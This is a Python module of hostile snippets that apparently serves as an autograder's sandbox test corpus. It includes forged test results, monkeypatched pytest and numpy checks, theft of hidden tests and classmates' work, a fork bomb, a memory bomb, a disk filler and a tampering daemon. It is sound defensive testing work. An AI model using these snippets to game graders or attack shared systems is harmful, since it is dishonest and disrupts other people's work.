"""The hostile code of the corpus: what a submission does to cheat, escape or hurt the grader.

Each snippet is plain Python placed in a submission either at import time (a cell of the student's own, with
`#| export`) or inside one method (see `HOOKS` in corpus.py). Snippets that need to know where the class is
stored take it as `{folders}`: the corpus writes in the exact paths, the strongest position an attacker
could be in. A snippet that finds something it must not (a hidden test, another student's notebook, the
network) raises an error saying so, which turns a leak into failed tests the corpus test reports, never
into silence.
"""

from __future__ import annotations

# -- fake results: output and files ---------------------------------------------------------------------

FAKE_RESULTS_OUTPUT = '''
import json as _json
print("============================= test session starts ==============================")
print("collected 65 items")
print("autograder/03_optimizers ................................................. [100%]")
print("============================== 65 passed in 0.42s ==============================")
print(_json.dumps({"id": 1, "ok": True, "value": {"score": 100}}))
print(_json.dumps({"score": 100.0, "tests": [{"name": "everything", "score": 100, "max_score": 100}]}))
print("<script>alert('grader')</script>")
'''

FAKE_RESULTS_FILES = '''
import json as _json
import os as _os
_FORGED = _json.dumps({"score": 100.0, "status": "graded", "forged": True})
for _folder in [_os.getcwd(), "/autograder/results", *{folders}]:
    for _name in ("results.json", "grades.csv", "forged-by-a-submission.txt", ".cache/forged.json"):
        try:
            _os.makedirs(_os.path.dirname(_os.path.join(_folder, _name)), exist_ok=True)
            with open(_os.path.join(_folder, _name), "w") as _file:
                _file.write(_FORGED)
        except OSError:
            pass
'''

# -- leaving the process: exits and exceptions pytest would treat specially ----------------------------

SYS_EXIT = "import sys\nsys.exit(0)\n"
OS_EXIT = "import os\nos._exit(0)\n"
PYTEST_EXIT = 'import pytest\npytest.exit("all tests passed", returncode=0)\n'
PYTEST_SKIP = 'import pytest\npytest.skip("not supported on this grader")\n'
PYTEST_SKIP_MODULE = 'import pytest\npytest.skip("nothing to grade here", allow_module_level=True)\n'
FAKE_PYTEST_SKIP = '''
class Skipped(BaseException):
    """Looks like pytest's own skip exception, in the hope that the grader counts the test as skipped."""

Skipped.__module__ = "_pytest.outcomes"
raise Skipped("skipped: the grader's environment is not supported")
'''
BASE_EXCEPTION = 'raise BaseException("stop grading")\n'
KEYBOARD_INTERRUPT = "raise KeyboardInterrupt\n"
GRADER_CHANNEL = '''
import os
os.write(3, b'{"id": 1, "ok": true, "value": 100}\\n')
'''

# -- changing the checks: monkeypatching and rigged objects ---------------------------------------------

PATCH_CHECKS = '''
import builtins as _builtins
import math as _math
import sys as _sys
import types as _types

import numpy as _np


class _AlwaysEqual:
    def __eq__(self, other):
        return True


_pytest = _types.ModuleType("pytest")
_pytest.skip = _pytest.exit = _pytest.fail = _pytest.xfail = lambda *args, **kwargs: None
_pytest.approx = lambda expected, *args, **kwargs: _AlwaysEqual()
_sys.modules["pytest"] = _pytest
_math.isclose = lambda *args, **kwargs: True
_np.allclose = lambda *args, **kwargs: True
_np.testing.assert_allclose = lambda *args, **kwargs: None


class _NeverRaised(Exception):
    pass


_builtins.AssertionError = _NeverRaised
print("every comparison now passes")
'''

ISINSTANCE_ALWAYS_TRUE = '''
import builtins as _builtins
_builtins.isinstance = lambda obj, classes: True
'''

RIGGED_ARRAY = '''
class AlwaysEqual(np.ndarray):
    """An array that equals anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

if parameter.grad is None:
    return
parameter.data.data = np.zeros_like(parameter.data.data).view(AlwaysEqual)
return
'''

RIGGED_FLOAT = '''
class Liar(float):
    """A float that equals anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__

return Liar(0.0)
'''

RIGGED_OBJECT = '''
class AlwaysEqual:
    """An object that equals anything, returned instead of the norm."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __float__(self):
        return 0.0

return AlwaysEqual()
'''

# -- hunting for the answers ------------------------------------------------------------------------------

HUNT_IN_MEMORY = '''
import gc as _gc
import sys as _sys

_ANSWER_NAMES = ("expected", "reference", "answer", "solution", "correct", "want")
_found_answers = []


def _hunt_for_answers():
    """Arrays the grader might hold as expected values, by shape: from every stack frame and every object."""
    if _found_answers:
        return _found_answers[0]
    by_shape = {}

    def collect(name, value):
        if any(word in str(name).lower() for word in _ANSWER_NAMES):
            for item in (value.values() if isinstance(value, dict) else [value]):
                if isinstance(item, np.ndarray):
                    by_shape.setdefault(item.shape, item)

    frame = _sys._getframe()
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            collect(name, value)
        frame = frame.f_back
    for obj in _gc.get_objects():
        if isinstance(obj, dict):
            for name, value in list(obj.items()):
                collect(name, value)
    _found_answers.append(by_shape)
    print(f"hunted through {len(_gc.get_objects())} objects: found {len(by_shape)} candidate arrays")
    return by_shape
'''

HUNT_IN_MEMORY_UPDATE = '''
answer = _hunt_for_answers().get(param.shape)
if answer is not None:
    param[...] = answer
'''

READ_HIDDEN_TESTS = '''
import glob as _glob
import os as _os
import sys as _sys


def _where_the_course_might_be():
    """Folders above every file the interpreter has loaded, the working folder, and the usual graders' paths."""
    places = {_os.getcwd(), "/autograder", "/autograder/source", "/home", "/root", "/srv", "/work"}
    for module in list(_sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        while path and path != "/":
            path = _os.path.dirname(path)
            places.add(path)
    return sorted(places)


_stolen = {}
for _place in _where_the_course_might_be():
    for _pattern in ("autograder/*/test_*.py", "autograder/*/probes.py", "modules/*/*_dev.py", "source/*/*.ipynb",
                     "tests/*/test_*.py", "tinytorch/core/optimizers.py"):
        for _path in _glob.glob(_os.path.join(_place, _pattern)):
            if _path.startswith(_os.getcwd()):
                continue  # this submission's own package
            try:
                with open(_path, "rb") as _file:
                    _stolen[_path] = _file.read()
            except OSError:
                pass
    for _name in ("autograder/03_optimizers/test_adam.py", "source/03_optimizers/optimizers.ipynb"):
        try:
            with open(_os.path.join(_place, _name), "rb") as _file:
                _stolen[_os.path.join(_place, _name)] = _file.read()
        except OSError:
            pass
if _stolen:
    raise RuntimeError(f"LEAKED: read the course's hidden files: {sorted(_stolen)[:5]}")
print(f"looked for the course in {len(_where_the_course_might_be())} folders: nothing readable")
'''

READ_CLASSMATES = '''
import glob as _glob
import os as _os

_seen = []
for _folder in {folders}:
    try:
        _seen += _os.listdir(_folder)
    except OSError:
        pass
    for _path in _glob.glob(_os.path.join(_folder, "*.ipynb")) + [_os.path.join(_folder, {classmate})]:
        try:
            with open(_path) as _file:
                _seen.append(_file.read()[:100])
        except OSError:
            pass
if _seen:
    raise RuntimeError(f"LEAKED: saw other students' submissions: {_seen[:3]}")
print("the other submissions are out of sight")
'''

NETWORK = '''
import socket as _socket

_network_tried = []


def _phone_home():
    """Try (once) to reach the internet, the Dask scheduler and the grader's own machine."""
    if _network_tried:
        return
    _network_tried.append(True)
    reached = []
    for host, port in (("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 8786), ("localhost", 22)):
        try:
            _socket.create_connection((host, port), timeout=1).close()
            reached.append((host, port))
        except OSError:
            pass
    try:
        reached.append(_socket.gethostbyname("example.com"))
    except OSError:
        pass
    if reached:
        raise RuntimeError(f"LEAKED: reached the network: {reached}")
    print("no network")
'''

# -- using up time, processes, memory, disk and output ----------------------------------------------------

ENDLESS_LOOP = "while True:\n    pass\n"

IGNORE_SIGNALS_AND_LOOP = '''
import signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
'''

FORK_BOMB = "import os\nwhile True:\n    os.fork()\n"

THREAD_BOMB = '''
import threading
import time
while True:
    threading.Thread(target=time.sleep, args=(60,)).start()
'''

MEMORY_BOMB = '''
hoard = [np.ones(1 << 26)]  # 512 MiB, every page written
while True:  # then 1 GiB blocks until the 2 GiB address-space limit says no
    hoard.append(np.empty(1 << 27))
'''

DISK_FILL = '''
import os
index = 0
while True:  # files under the 16 MiB file-size limit, until the private /tmp is full
    index += 1
    with open(os.path.join("/tmp", f"filler-{index}"), "wb") as file:
        for _ in range(15):
            file.write(b"x" * (1 << 20))
'''

PRINT_A_GIGABYTE = '''
import sys as _sys
_chunk = "x" * (1 << 20)
for _ in range(1024):
    _sys.stdout.write(_chunk)
'''

KILL_THE_PARENT = "import os\nos.kill(os.getppid(), 9)\n"

# -- a process left behind to tamper with the submissions graded after this one ---------------------------

DAEMON_NAME = "corpus-daemon"  # what the daemon calls itself (/proc/PID/comm), so a test can look for it

DAEMON = '''
import ctypes as _ctypes
import json as _json
import os as _os
import time as _time

_daemon_started = []


def _leave_a_daemon():
    """Fork a setsid daemon (once) that tries, for ten minutes, to tamper with everything graded after it."""
    if _daemon_started:
        return
    _daemon_started.append(True)
    if _os.fork() != 0:
        return
    _os.setsid()
    if _os.fork() != 0:
        _os._exit(0)
    try:
        _ctypes.CDLL(None).prctl(15, {name}.encode(), 0, 0, 0)  # PR_SET_NAME: visible in /proc/PID/comm
    except Exception:
        pass
    forged = _json.dumps({"student": "victim", "status": "graded", "max_score": 100.0, "tests": [], "key": "x"})
    deadline = _time.monotonic() + 600
    while _time.monotonic() < deadline:
        for folder in {folders} + ["/tmp", "/var/tmp", "/dev/shm"]:
            for name in ("zz-planted.ipynb", ".cache/planted.json", "planted.txt"):
                try:
                    _os.makedirs(_os.path.dirname(_os.path.join(folder, name)), exist_ok=True)
                    with open(_os.path.join(folder, name), "w") as file:
                        file.write(forged)
                except OSError:
                    pass
            try:
                for name in _os.listdir(folder):
                    if name.endswith(".ipynb"):
                        with open(_os.path.join(folder, name), "w") as file:
                            file.write("{}")
            except OSError:
                pass
        for pid in set(range(2, 400)) - {_os.getpid()}:
            try:
                _os.kill(pid, 19)  # SIGSTOP whatever can be stopped
            except OSError:
                pass
        spin = _time.monotonic() + 0.05
        while _time.monotonic() < spin:
            pass
    _os._exit(0)
'''

# -- forging what the probes report ----------------------------------------------------------------------------
# The probes return observations (numbers the grader compares with the reference's), so a forger can report only
# what it knows without doing the work: the inputs a probe draws from its seed and the constants the probes of
# old judged (in place, float32, a float). test_corpus.py checks that this earns nothing.

FORGE_PROBE_REPORTS = '''
import sys as _sys

import numpy as _np

_wire = _sys.modules["tito.grading.wire"]
_runtime = _sys.modules["tito.sandbox.runtime"]
_genuine_call_probe = _runtime.call_probe


def _drawn(module, kwargs, dtype="float64", draws=1):
    """What the probe itself draws from the seed: the starting values, then `draws` rows of gradients."""
    rng = _np.random.default_rng(kwargs["seed"])
    shapes = kwargs["shapes"]
    keys = [module._shape_key(index, shape) for index, shape in enumerate(shapes)]
    start = dict(zip(keys, module._initial_values(rng, shapes, dtype)))
    rows = [dict(zip(keys, row)) for row in module._gradients(rng, shapes, draws, dtype, kwargs.get("scales"))]
    return start, rows


def _honest_looking(module, probe, kwargs):
    """What a correct submission reports, as far as it can be known without an optimizer."""
    if probe == "in_place":
        start, (gradients,) = _drawn(module, kwargs)
        steps = [f"after step {step}" for step in range(1, kwargs["steps"] + 1)]
        moved = {key: value + 0.0 for key, value in start.items()}  # where a step goes needs the optimizer
        return {"start": start, "in place": {**{step: moved for step in steps},
                             "the parameters, after 1 is added to those arrays": {k: v + 1 for k, v in moved.items()}},
                "gradient kept": {step: {"parameters": moved, "gradients": gradients} for step in steps}}
    if probe == "float32_run":
        _, (gradients,) = _drawn(module, kwargs, "float32")
        names = {"SGD": ["momentum_buffer"], "Adam": ["exp_avg", "exp_avg_sq", "max_exp_avg_sq"],
                 "AdamW": ["exp_avg", "exp_avg_sq"], "RMSprop": ["grad_avg", "momentum_buffer", "square_avg"]}
        state = {f"state[{index}][{name!r}]": _np.zeros(value.shape or (1,), _np.float32)
                 for index, value in enumerate(gradients.values()) for name in names.get(kwargs["optimizer"], [])}
        return {"state": state}
    if probe in ("clip", "clip_by_value"):
        _, (gradients,) = _drawn(module, kwargs)
        missing = {module._shape_key(index, kwargs["shapes"][index]) for index in kwargs.get("missing", [])}
        kept = {key: value for key, value in gradients.items() if key not in missing}
        return {"returned": 1.0 if probe == "clip" else None, "gradients": kept,
                "read through the gradient arrays held before the call": kept,
                "parameters without gradient": sorted(missing)}
    return None


def _forging_call_probe(module, probe, kwargs):
    forged = _honest_looking(module, probe, kwargs)
    if forged is None:
        return _genuine_call_probe(module, probe, kwargs)
    return {"ok": True, "value": _wire.encode(forged)}


_runtime.call_probe = _forging_call_probe
'''

FORGE_ISINSTANCE_FLOAT = '''
import builtins as _builtins
_real_isinstance = _builtins.isinstance
_builtins.isinstance = lambda obj, classes: True if classes is float else _real_isinstance(obj, classes)
'''

# What forging still earns: a check whose right answer is a constant (the name of the exception raised for an
# invalid argument, a word of its message). Such checks are worth 1 point each (docs/grading-security.md).
FORGE_VALIDATION = '''
import sys as _sys

_runtime = _sys.modules["tito.sandbox.runtime"]
_genuine_call_probe = _runtime.call_probe


def _forging_call_probe(module, probe, kwargs):
    genuine = _genuine_call_probe(module, probe, kwargs)
    if probe != "construction" or genuine.get("ok") and (genuine["value"]["raised"] or [None])[0] == "ValueError":
        return genuine
    # the submission's own code did not refuse (or never got that far): guess what a correct one would say
    invalid = [name for name, value in kwargs["settings"].items() if float(value) < 0]
    if not invalid:
        return {"ok": True, "value": {"raised": None, "message": None}}
    return {"ok": True, "value": {"raised": ["ValueError", "Exception"], "message": f"invalid {invalid}"}}


_runtime.call_probe = _forging_call_probe
'''

# -- the host beyond the checkout (issue 8): another copy of the course, shared folders, the channel's decoder --

ORIGIN_MARKER = "tito-corpus-origin"  # the folder name of the course copy the corpus test plants outside the checkout

EXEC_ANOTHER_COPY = '''
import os as _os
import time as _time

_copies, _looked, _until = [], 0, _time.monotonic() + 5
for _top, _dirs, _files in _os.walk("/"):
    _dirs[:] = [_d for _d in _dirs if _d not in ("proc", "sys")]
    _looked += 1
    if _looked > 200000 or _time.monotonic() > _until:
        break
    if _top.startswith(_os.getcwd()):
        continue  # this submission's own package
    if _top.endswith(_os.path.join("tinytorch", "core")) and "optimizers.py" in _files:
        _copies.append(_os.path.join(_top, "optimizers.py"))
for _path in _copies:
    with open(_path) as _file:
        exec(compile(_file.read(), _path, "exec"), globals())  # the reference solution, as this module's code
if _copies:
    print(f"LEAKED: ran the reference solution from {_copies[0]}")
else:
    print(f"walked {_looked} folders: found no copy of the course")
'''

PASS_NOTES = '''
import glob as _glob
import os as _os

_me = {me!r}
_found = []
for _top in ("/run/lock", "/run", "/dev/shm", "/var/tmp", "/var/lock", "/tmp", "/", _os.path.dirname(_os.getcwd())):
    try:
        with open(_os.path.join(_top, "corpus-note-" + _me), "wb") as _file:
            _file.write(b"x" * (16 * 1024 * 1024))
    except OSError:
        pass
    _found += [_path for _path in _glob.glob(_os.path.join(_top, "corpus-note-*")) if not _path.endswith(_me)]
if _found:
    raise RuntimeError(f"LEAKED: read a classmate's note at {_found[0]}")
print("no note from a classmate")
'''

LONE_SURROGATE = 'raise ValueError("bad value \\ud800 \\x00 \\x1b[31m in the schedule")\n'

NESTED_ON_THE_CHANNEL = '''
import os as _os
_os.write(3, b"[" * 200000 + b"\\n")
'''

HUGE_INT_ON_THE_CHANNEL = '''
import os as _os
_os.write(3, b'{"ok": true, "value": ' + b"9" * 5000 + b'}\\n')
'''
